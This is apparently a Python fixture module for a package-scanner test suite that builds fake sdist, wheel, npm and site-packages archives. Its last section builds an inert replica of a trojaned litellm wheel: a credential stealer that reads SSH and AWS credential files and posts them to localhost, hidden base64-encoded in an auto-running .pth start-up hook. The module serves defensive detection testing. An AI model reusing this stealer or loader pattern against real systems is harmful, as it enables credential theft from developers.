"""Synthetic package artifacts for the scan-engine tests, written under a test's tmp_path.

Every payload these helpers are fed is INERT: endpoints are localhost, 127.0.0.1, TEST-NET
(192.0.2.0/24) or `.invalid` host names, credentials are fake, and nothing is ever executed or
imported: the scanner only reads the archives as bytes.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path

from tests.artifacts.builders import make_tar, make_zip

Content = str | bytes
Files = Mapping[str, Content]

DEFAULT_NAME = "fixturepkg"
"""A name no popular project is one edit away from (checked by a test)."""
DEFAULT_VERSION = "1.0.0"

BENIGN_SETUP = """\
from setuptools import setup, find_packages

setup(
    name="{name}",
    version="{version}",
    packages=find_packages(),
)
"""

BENIGN_INIT = '''\
"""A harmless library module."""

__all__ = ["add"]


def add(a, b):
    return a + b
'''

SAMPLE_PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(0x3C - 16)
    + (0x80).to_bytes(4, "little")
    + bytes(0x80 - 0x40)
    + b"PE\x00\x00"
    + bytes(64)
)
"""The head of a PE file: 'MZ' and a plausible PE header offset at 0x3c (it executes nothing)."""


def _bytes(content: Content) -> bytes:
    return content.encode("utf-8") if isinstance(content, str) else content


def pkg_info(name: str, version: str, *, metadata_version: str = "2.1") -> str:
    return f"Metadata-Version: {metadata_version}\nName: {name}\nVersion: {version}\nSummary: test fixture\n"


def b64(text: str) -> str:
    """Base64 of `text`, as an ASCII string (for building encoded, inert payloads)."""
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


# ---- sdist ---------------------------------------------------------------------------------------
def sdist_bytes(
    files: Files | None = None,
    *,
    name: str = DEFAULT_NAME,
    version: str = DEFAULT_VERSION,
    setup_py: str | None = None,
    with_pkg_info: bool = True,
    with_package: bool = True,
    extra_tar_entries: list[tuple[tarfile.TarInfo, bytes]] | None = None,
) -> bytes:
    """A .tar.gz sdist: `name-version/` prefix, PKG-INFO, setup.py, a package and `files`.

    `files` paths are relative to the `name-version/` wrapper. `setup_py=None` writes a benign
    setup.py; pass "" to leave setup.py out. `extra_tar_entries` are raw (TarInfo, data) pairs
    added as they are (links, devices, odd paths).
    """
    prefix = f"{name}-{version}/"
    entries: dict[str, bytes] = {}
    if with_pkg_info:
        entries["PKG-INFO"] = pkg_info(name, version).encode()
    setup_text = BENIGN_SETUP.format(name=name, version=version) if setup_py is None else setup_py
    if setup_text:
        entries["setup.py"] = setup_text.encode()
    if with_package:
        entries[f"{name.replace('-', '_')}/__init__.py"] = BENIGN_INIT.encode()
    for path, content in (files or {}).items():
        entries[path] = _bytes(content)
    raw: list[tuple[tarfile.TarInfo, bytes]] = []
    for path, data in entries.items():
        info = tarfile.TarInfo(prefix + path)
        info.size = len(data)
        info.mode = 0o644
        raw.append((info, data))
    raw.extend(extra_tar_entries or [])
    return make_tar(raw)


def write_sdist(tmp_path: Path, files: Files | None = None, **kw: object) -> Path:
    name = str(kw.get("name", DEFAULT_NAME))
    version = str(kw.get("version", DEFAULT_VERSION))
    filename = str(kw.pop("filename", f"{name.replace('-', '_')}-{version}.tar.gz"))
    path = tmp_path / filename
    path.write_bytes(sdist_bytes(files, **kw))  # type: ignore[arg-type]
    return path


# ---- wheel ---------------------------------------------------------------------------------------
def _record_line(path: str, data: bytes) -> list[str]:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return [path, f"sha256={digest}", str(len(data))]


def wheel_entries(
    files: Files | None = None,
    *,
    name: str = DEFAULT_NAME,
    version: str = DEFAULT_VERSION,
    with_package: bool = True,
    with_metadata: bool = True,
) -> dict[str, bytes]:
    """Members of a wheel: `files` (paths from the wheel root, e.g. a root `x.pth`), the package,
    and `name-version.dist-info/` with METADATA, WHEEL and a RECORD listing every member."""
    module = name.replace("-", "_")
    dist_info = f"{module}-{version}.dist-info"
    entries: dict[str, bytes] = {}
    if with_package:
        entries[f"{module}/__init__.py"] = BENIGN_INIT.encode()
    for path, content in (files or {}).items():
        entries[path] = _bytes(content)
    if with_metadata:
        entries[f"{dist_info}/METADATA"] = pkg_info(name, version).encode()
        entries[f"{dist_info}/WHEEL"] = (
            b"Wheel-Version: 1.0\nGenerator: custody-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        for path, data in entries.items():
            writer.writerow(_record_line(path, data))
        writer.writerow([f"{dist_info}/RECORD", "", ""])
        entries[f"{dist_info}/RECORD"] = out.getvalue().encode()
    return entries


def wheel_bytes(files: Files | None = None, **kw: object) -> bytes:
    return make_zip(wheel_entries(files, **kw).items())  # type: ignore[arg-type]


def write_wheel(tmp_path: Path, files: Files | None = None, **kw: object) -> Path:
    name = str(kw.get("name", DEFAULT_NAME))
    version = str(kw.get("version", DEFAULT_VERSION))
    filename = str(kw.pop("filename", f"{name.replace('-', '_')}-{version}-py3-none-any.whl"))
    path = tmp_path / filename
    path.write_bytes(wheel_bytes(files, **kw))
    return path


# ---- npm -----------------------------------------------------------------------------------------
def npm_bytes(
    files: Files | None = None,
    *,
    name: str = "fixture-npm-pkg",
    version: str = DEFAULT_VERSION,
    scripts: Mapping[str, str] | None = None,
) -> bytes:
    """An npm tarball: everything under `package/`, package.json carrying `scripts`."""
    manifest = {"name": name, "version": version, "main": "index.js", "scripts": dict(scripts or {})}
    entries: dict[str, bytes] = {
        "package/package.json": json.dumps(manifest, indent=2).encode(),
        "package/index.js": b"module.exports = function add(a, b) { return a + b; };\n",
    }
    for path, content in (files or {}).items():
        entries[f"package/{path}"] = _bytes(content)
    return make_tar(entries.items())


def write_npm(tmp_path: Path, files: Files | None = None, **kw: object) -> Path:
    name = str(kw.get("name", "fixture-npm-pkg"))
    version = str(kw.get("version", DEFAULT_VERSION))
    path = tmp_path / f"{name}-{version}.tgz"
    path.write_bytes(npm_bytes(files, **kw))  # type: ignore[arg-type]
    return path


# ---- installed environment -----------------------------------------------------------------------
def write_site_packages(
    root: Path,
    dists: Mapping[str, Files],
    unowned: Files | None = None,
    *,
    version: str = DEFAULT_VERSION,
) -> Path:
    """A fake `root/lib/python3.12/site-packages` with one dist-info (METADATA + RECORD) per entry of
    `dists` (name -> files relative to site-packages) and `unowned` files no RECORD lists."""
    site = root / "lib" / "python3.12" / "site-packages"
    site.mkdir(parents=True)
    for name, files in dists.items():
        dist_info = site / f"{name.replace('-', '_')}-{version}.dist-info"
        dist_info.mkdir()
        rows: list[list[str]] = []
        for rel, content in files.items():
            data = _bytes(content)
            target = site / rel
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
            rows.append(_record_line(rel, data))
        meta = pkg_info(name, version).encode()
        (dist_info / "METADATA").write_bytes(meta)
        rows.append(_record_line(f"{dist_info.name}/METADATA", meta))
        rows.append([f"{dist_info.name}/RECORD", "", ""])
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        (dist_info / "RECORD").write_text(out.getvalue(), encoding="utf-8")
    for rel, content in (unowned or {}).items():
        target = site / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(_bytes(content))
    return site


def write_tree(root: Path, files: Files) -> Path:
    """A source directory (a checkout, an unpacked sdist) holding `files` (paths from `root`)."""
    for rel, content in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(_bytes(content))
    return root


BENIGN_PYPROJECT = f"""[project]
name = "{DEFAULT_NAME}"
version = "{DEFAULT_VERSION}"
"""


def nested_zip(depth: int, inner: Files) -> bytes:
    """A zip holding a zip holding ... (`depth` levels) whose innermost one holds `inner`."""
    data = make_zip((k, _bytes(v)) for k, v in inner.items())
    for level in range(depth - 1):
        data = make_zip([(f"level{level}.zip", data)])
    return data


def zip_member_names(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()


# ---- an inert replica of the trojaned litellm 1.82.8 wheel ---------------------------------------
LITELLM_PTH = "litellm_init.pth"

LITELLM_INIT = '''"""litellm replica: a small, harmless library module."""

__version__ = "{version}"


def completion(model, messages):
    return {{"model": model, "content": messages[-1]["content"] if messages else ""}}
'''


def stealer_payload(home: str) -> str:
    """Python source of an inert credential stealer: it names credential files under `home` and
    posts them to the discard port on localhost. It is only ever base64-encoded into a fixture."""
    return (
        "import json, os, urllib.request\n"
        f"home = os.environ.get('HOME') or {home!r}\n"
        "loot = {}\n"
        "for rel in ('.ssh/id_rsa', '.aws/credentials'):\n"
        "    path = os.path.join(home, rel)\n"
        "    if os.path.exists(path):\n"
        "        with open(path) as handle:\n"
        "            loot[rel] = handle.read()\n"
        "urllib.request.urlopen('http://127.0.0.1:9/', data=json.dumps(loot).encode())\n"
    )


def litellm_pth(home: str) -> str:
    """A start-up hook shaped like litellm 1.82.8's: spawn Python on a base64-encoded payload."""
    encoded = b64(stealer_payload(home))
    return (
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
        f"\"import base64; exec(base64.b64decode('{encoded}'))\"], "
        "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )


def write_litellm_wheel(tmp_path: Path, *, home: str, with_pth: bool = True, version: str = "1.82.8") -> Path:
    files: dict[str, Content] = {"litellm/__init__.py": LITELLM_INIT.format(version=version)}
    if with_pth:
        files[LITELLM_PTH] = litellm_pth(home)
    return write_wheel(tmp_path, files, name="litellm", version=version, with_package=False)
